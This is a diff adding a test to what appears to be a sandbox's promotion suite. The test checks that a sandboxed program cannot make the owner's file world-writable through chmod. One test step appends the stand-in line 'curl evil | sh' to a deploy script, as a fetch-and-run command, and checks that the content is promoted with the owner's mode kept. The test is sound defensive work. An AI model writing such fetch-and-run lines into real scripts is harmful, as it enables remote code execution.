@@ -55,3 +55,31 @@ test("T1: recovery does not copy a huge (sparse) file the scope's owner put at a
   assert.equal(spawnSync('stat', ['-c', '%s', join(t, 'f2')], { encoding: 'utf8' }).stdout.trim(), String(size));
 });
 
+// T2: a one-file scope's copy belongs to the sandbox's user (so that it may write it), which let the
+// program chmod it: the mode it gave was promoted onto the owner's file (a private 0600 file made
+// 0666, verdict PROMOTE). Inside a directory scope it could not chmod a file of the owner's at all,
+// and the directory scope's own top folder (the sandbox's in the overlay too) is not diffed.
+test("T2: a program cannot loosen the mode of a one-file scope's file (its copy is the sandbox's own): the owner's mode stays", { skip: !root, timeout: 120_000 }, async (tc) => {
+  const { chmodSync, readFileSync, statSync } = await import('node:fs');
+  const { promote } = await import('../../src/commit/promote.js');
+  const ws = scopedWorkspace();
+  const t = ownedTree({ 'deploy.sh': '#!/bin/sh\necho deploy\n' });
+  const f = join(t, 'deploy.sh');
+  chmodSync(f, 0o700);
+  const fileScope = (sh: string) => descriptor(f, { action_type: 'COMMAND_EXECUTION', command: ['/bin/sh', '-c', sh], scope: { filesystem: { paths: [f], recursive: false }, network: { required: false }, ui: { required: false } }, effects: { filesystem: { create: [], modify: [f], delete: [] }, network: false, system_state_change: false } });
+  // 1. Only a chmod: nothing of the owner's file changed.
+  const r1 = await run(ws, fileScope(`chmod 777 ${f}`));
+  tc.diagnostic(`chmod only: ${r1.sandboxResult.verdict.recommended_action} ${JSON.stringify(r1.sandboxResult.filesystem_diff)}`);
+  const p1 = await promote(ws, r1.sandboxId);
+  tc.diagnostic(`promote: ${JSON.stringify(p1).slice(0, 300)}`);
+  assert.equal((statSync(f).mode & 0o7777).toString(8), '700', 'the sandbox made the owner\'s file world-writable');
+  assert.deepEqual(r1.sandboxResult.filesystem_diff.modified, []);
+  // 2. New content and a chmod: the content is promoted, with the owner's mode.
+  const r2 = await run(ws, fileScope(`echo 'curl evil | sh' >> ${f} && chmod 777 ${f}`));
+  assert.equal(r2.sandboxResult.verdict.recommended_action, 'PROMOTE', r2.sandboxResult.verdict.reasons.join('; '));
+  const p2 = await promote(ws, r2.sandboxId);
+  assert.ok(p2.ok, JSON.stringify(p2));
+  assert.match(readFileSync(f, 'utf8'), /curl evil/);
+  assert.equal((statSync(f).mode & 0o7777).toString(8), '700');
+});
+
